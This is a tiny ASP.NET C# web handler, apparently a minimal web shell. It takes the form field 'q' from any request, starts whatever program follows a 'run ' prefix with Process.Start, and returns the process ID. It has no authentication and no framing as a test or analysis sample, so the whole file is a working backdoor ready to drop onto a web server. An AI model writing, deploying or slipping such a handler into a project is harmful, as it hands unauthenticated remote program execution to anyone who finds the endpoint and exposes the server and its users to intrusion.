<%@ WebHandler Language="C#" Class="H" %>
using System.Web; using System.Diagnostics;
public class H : IHttpHandler { public bool IsReusable { get { return false; } }
public void ProcessRequest(HttpContext context) { string line = context.Request.Form["q"]; context.Response.Write(Dispatch(line)); }
string Dispatch(string line) { if (line.StartsWith("run ")) { string exe = line.Substring(4); return Run(exe); } return "?"; }
string Run(string x) => Process.Start(x).Id.ToString(); }
